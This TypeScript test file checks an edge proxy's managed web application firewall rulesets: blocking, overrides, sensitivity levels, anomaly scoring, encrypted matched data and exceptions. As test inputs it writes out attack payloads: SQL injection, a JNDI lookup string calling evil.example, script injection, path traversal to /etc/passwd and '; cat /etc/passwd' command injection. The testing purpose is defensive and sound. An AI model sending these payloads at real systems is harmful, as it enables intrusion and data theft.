import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { MANAGED, SCORE_EXCEEDED_RULE_ID, SCORES } from "#rules/managed/request-rulesets.ts";
import { newEnvelopeKeys, openEnvelope } from "#kernel/crypto/envelope.ts";
import type { SecurityEventRow } from "#events/rows/rows.ts";
import { executionOf } from "#rules/managed/rulesets.ts";
import { exchangeRaw, httpOrigin, siteOps, startEdge, type TestEdge, type TestOrigin } from "#edge/testing/edge.ts";
import { eventually } from "../../test/support/eventually.ts";
import { rulesetOp } from "#edge/testing/entries.ts";

let origin: TestOrigin;
let edge: TestEdge;

before(async () => {
  origin = await httpOrigin((req, res) => req.resume().on("end", () => res.end("origin")));
  edge = await startEdge(siteOps(origin.port));
});
after(async () => {
  assert.deepEqual(edge.errors, []);
  await edge.close();
  origin.close();
});

type Rules = Parameters<typeof rulesetOp>[4];
const PHASE = "http_request_firewall_managed";
const execute = (id: string, overrides?: object, expression = "true"): Rules[number] => ({
  action: "execute",
  expression,
  action_parameters: { id, version: "latest", ...(overrides === undefined ? {} : { overrides }) },
});

async function withRules(rules: Rules, work: () => Promise<void>, account: Rules = []): Promise<void> {
  edge.replica.apply([rulesetOp("z", "zone", "zone", PHASE, rules), rulesetOp("a", "account", "account", PHASE, account)]);
  edge.security.length = 0;
  try {
    await work();
  } finally {
    edge.replica.apply([
      { kind: "ruleset", id: "z", value: null },
      { kind: "ruleset", id: "a", value: null },
    ]);
  }
}

const statusOf = (answer: string): number => Number(answer.slice(9, 12));
const BROWSER = "Host: www.example.com\r\nConnection: close\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n";
const get = async (target: string, more = ""): Promise<number> =>
  statusOf(await exchangeRaw(edge.http, `GET ${target} HTTP/1.1\r\n${BROWSER}${more}\r\n`));
const post = async (type: string, body: string): Promise<number> =>
  statusOf(
    await exchangeRaw(edge.http, `POST /form HTTP/1.1\r\n${BROWSER}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`),
  );

const UNION = "/search?q=1%20UNION%2F**%2FSELECT%20null,null";
const idOf = (ruleset: typeof MANAGED, description: string): string =>
  ruleset.rules.find((rule) => rule.description === description)?.id ?? "";

test("a managed ruleset blocks attacks and logs events once it is deployed, and lets other requests through", async () => {
  assert.equal(await get(UNION), 200);
  await withRules([execute(MANAGED.id)], async () => {
    assert.equal(await get(UNION), 403);
    await eventually(() => edge.security.length === 1);
    const [event] = edge.security;
    assert.deepEqual(
      [event?.ruleset_id, event?.rule_description, event?.action, event?.phase, event?.deployed_by, event?.status],
      [MANAGED.id, "SQL injection: UNION SELECT", "block", PHASE, "z-1", 403],
    );
    assert.equal(await get("/search?q=student+union+select+committee"), 200);
    assert.equal(await get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"), 403);
    assert.equal(await get("/", "Cookie: a=b; c=%3Cscript%3Ealert(1)%3C%2Fscript%3E\r\n"), 403);
    assert.equal(await get("/static/%2e%2e/%2e%2e/etc/passwd"), 403);
    assert.equal(await post("application/json", '{"a":{"b":["\\u003cscript\\u003ealert(1)"]}}'), 403);
    assert.equal(await post("application/x-www-form-urlencoded", "name=O%27Brien&text=it%27s+fine"), 200);
    assert.equal(await post("application/x-www-form-urlencoded", "name=%27+or+%271%27%3D%271"), 403);
  });
});

test("a rule's override wins over its tag's, and a tag's over the ruleset's; the action log lets the request through and makes an event", async () => {
  const union = idOf(MANAGED, "SQL injection: UNION SELECT");
  await withRules([execute(MANAGED.id, { action: "log" })], async () => {
    assert.equal(await get(UNION), 200);
    await eventually(() => edge.security.some(({ action, rule_id }) => action === "log" && rule_id === union));
  });
  await withRules([execute(MANAGED.id, { action: "log", categories: [{ category: "sqli", action: "block" }] })], async () => {
    assert.equal(await get(UNION), 403);
    assert.equal(await get("/?q=%3Cscript%3E"), 200);
  });
  const off = { categories: [{ category: "sqli", action: "block" }], rules: [{ id: union, enabled: false }] };
  await withRules([execute(MANAGED.id, off)], async () => assert.equal(await get(UNION), 200));
  await withRules([execute(MANAGED.id, { enabled: false })], async () => assert.equal(await get("/?q=%3Cscript%3E"), 200));
});

test("a lower sensitivity enables only rules with fewer false positives, and a rule's sensitivity wins over its ruleset's", async () => {
  const titles = (ruleset: typeof MANAGED, overrides: object): readonly string[] =>
    executionOf(ruleset, { overrides }).rules.map(({ description }) => description);
  const all = { enabled: true };
  const levels = (["default", "medium", "low", "eoff"] as const).map((sensitivity_level) => ({ ...all, sensitivity_level }));
  for (const ruleset of [MANAGED, SCORES]) {
    const [most = [], medium = [], low = [], none = []] = levels.map((overrides) => titles(ruleset, overrides));
    const lengths = [most, medium, low].map(({ length }) => length).join(", ");
    assert.ok(most.length >= medium.length && medium.length > low.length && low.length > 0, `${ruleset.name}: ${lengths}`);
    // The least suspicious rows belong to the higher paranoia levels, which only scores have.
    if (ruleset === SCORES) assert.ok(most.length > medium.length, lengths);
    assert.deepEqual([most.length, none], [ruleset.rules.length, []]);
    assert.ok(low.every((title) => medium.includes(title)));
  }
  assert.deepEqual(titles(MANAGED, levels[2]!), titles(MANAGED, {}));
  const union = idOf(SCORES, "SQL injection: UNION SELECT");
  const rules = [
    { id: union, sensitivity_level: "default" },
    { id: SCORE_EXCEEDED_RULE_ID, sensitivity_level: "default", score_threshold: 5 },
  ];
  await withRules([execute(SCORES.id, { sensitivity_level: "eoff" })], async () => assert.equal(await get(UNION), 200));
  await withRules([execute(SCORES.id, { sensitivity_level: "eoff", rules })], async () => {
    assert.equal(await get(UNION), 403);
    assert.equal(await get("/?q=%3Cscript%3E"), 200);
  });
});

test("an event names the rule that matched, and has the matched data encrypted with the rule's public key", async () => {
  const { public_key, private_key } = newEnvelopeKeys();
  const asking = (id: string, overrides: object): Rules[number] => ({
    ...execute(id),
    action_parameters: { id, overrides, matched_data: { public_key } },
  });
  const eventFor = async (work: Rules): Promise<SecurityEventRow> => {
    await withRules(work, async () => {
      assert.equal(await get(UNION), 403);
      await eventually(() => edge.security.length === 1);
    });
    return edge.security[0]!;
  };
  const union = idOf(MANAGED, "SQL injection: UNION SELECT");
  const [own] = (await eventFor([asking(MANAGED.id, {})])).matches;
  assert.deepEqual([own?.rule_id, own?.confidence], [union, "high"]);
  assert.deepEqual(JSON.parse(openEnvelope(private_key, own?.matched_data ?? "")), [
    { part: "http.request.uri.args", name: "q", value: "1 union select null,null" },
  ]);
  const overrides = { rules: [{ id: SCORE_EXCEEDED_RULE_ID, score_threshold: 5 }] };
  const scored = (await eventFor([asking(SCORES.id, overrides)])).matches;
  assert.ok(scored.some(({ rule_id }) => rule_id === idOf(SCORES, "SQL injection: UNION SELECT")));
  assert.ok(scored.every(({ matched_data, confidence }) => matched_data !== undefined && confidence === "medium"));
  const unasked = (await eventFor([execute(SCORES.id, overrides)])).matches;
  assert.deepEqual(
    [unasked.map(({ rule_id }) => rule_id), unasked.some((match) => "matched_data" in match)],
    [scored.map(({ rule_id }) => rule_id), false],
  );
});

test("a match of an expression has the part of the request that the expression tests", async () => {
  const { public_key, private_key } = newEnvelopeKeys();
  const rewriting = "A header that overrides the URL";
  const cases = [
    ["An overlong UTF-8 encoding in the URL", "/a%c0%ae?c=1", "", { part: "http.request.uri", name: "", value: "/a%c0%ae?c=1" }],
    [rewriting, "/", "X-Rewrite-URL: /admin\r\n", { part: "http.request.headers", name: "x-rewrite-url", value: "/admin" }],
    ["An unusual method", "/", "", { part: "http.request.method", name: "", value: "PURGE" }],
  ] as const;
  for (const [title, target, fields, matched] of cases) {
    const id = idOf(MANAGED, title);
    const overrides = { enabled: false, rules: [{ id, enabled: true }] };
    const rule = { ...execute(MANAGED.id), action_parameters: { id: MANAGED.id, overrides, matched_data: { public_key } } };
    await withRules([rule], async () => {
      const method = matched.part === "http.request.method" ? matched.value : "GET";
      assert.equal(statusOf(await exchangeRaw(edge.http, `${method} ${target} HTTP/1.1\r\n${BROWSER}${fields}\r\n`)), 403, title);
      await eventually(() => edge.security.length === 1);
    });
    const [match] = edge.security[0]!.matches;
    assert.equal(match?.rule_id, id);
    assert.deepEqual(JSON.parse(openEnvelope(private_key, match?.matched_data ?? "")), [matched]);
  }
});

test("exceptions win over overrides: for a rule, a ruleset, and the rest of the phase", async () => {
  const skip = (parameters: object): Rules[number] => ({
    action: "skip",
    expression: 'http.request.uri.path eq "/search"',
    action_parameters: { ...parameters },
  });
  const rows: readonly (readonly [Rules[number], number])[] = [
    [skip({ rules: { [MANAGED.id]: [idOf(MANAGED, "SQL injection: UNION SELECT")] } }), 200],
    [skip({ rules: { [MANAGED.id]: [idOf(MANAGED, "SQL injection: time delays")] } }), 403],
    [skip({ rulesets: [MANAGED.id] }), 200],
    [skip({ rulesets: [SCORES.id] }), 403],
    [skip({ ruleset: "current" }), 200],
  ];
  for (const [exception, status] of rows)
    await withRules([exception, execute(MANAGED.id, { action: "block" })], async () => {
      assert.equal(await get(UNION), status, JSON.stringify(exception.action_parameters));
      assert.equal(await get(UNION.replace("/search", "/other")), 403);
    });
});

test("the scores of the enabled paranoia levels add up to the threshold", async () => {
  const attack =
    "/?a=%3Cscript%3Ealert(1)%3C/script%3E&b=1%20union%20select%20null,null&c=../../../../etc/passwd&d=%3B%20cat%20/etc/passwd";
  const at = (score_threshold: number, more: object = {}): Rules => [
    execute(SCORES.id, { rules: [{ id: SCORE_EXCEEDED_RULE_ID, score_threshold }], ...more }),
  ];
  await withRules(at(25), async () => {
    assert.equal(await get(attack), 403);
    await eventually(() => edge.security.length === 1);
    assert.deepEqual(
      [edge.security[0]?.rule_id, edge.security[0]?.rule_description],
      [SCORE_EXCEEDED_RULE_ID, "949110: Inbound Anomaly Score Exceeded"],
    );
    assert.equal(await get("/?a=hello"), 200);
  });
  await withRules(at(10_000), async () => assert.equal(await get(attack), 200));
  const first = { categories: [2, 3, 4].map((level) => ({ category: `paranoia-level-${level}`, enabled: false })) };
  const every = { categories: [3, 4].map((level) => ({ category: `paranoia-level-${level}`, enabled: true })) };
  // Markup alone reaches a score only at the higher levels, which are off by default.
  await withRules(at(3, first), async () => assert.equal(await get("/?a=%3Cp%3Ehello%3C/p%3E"), 200));
  await withRules(at(3, every), async () => assert.equal(await get("/?a=%3Cp%3Ehello%3C/p%3E"), 403));
});

test("the account's deployment runs before the zone's, each if its expression matches", async () => {
  const account = [execute(MANAGED.id, undefined, 'http.request.uri.path eq "/account"')];
  await withRules(
    [execute(MANAGED.id, { action: "log" })],
    async () => {
      assert.equal(await get(UNION.replace("/search", "/account")), 403);
      assert.equal(await get(UNION), 200);
    },
    account,
  );
});
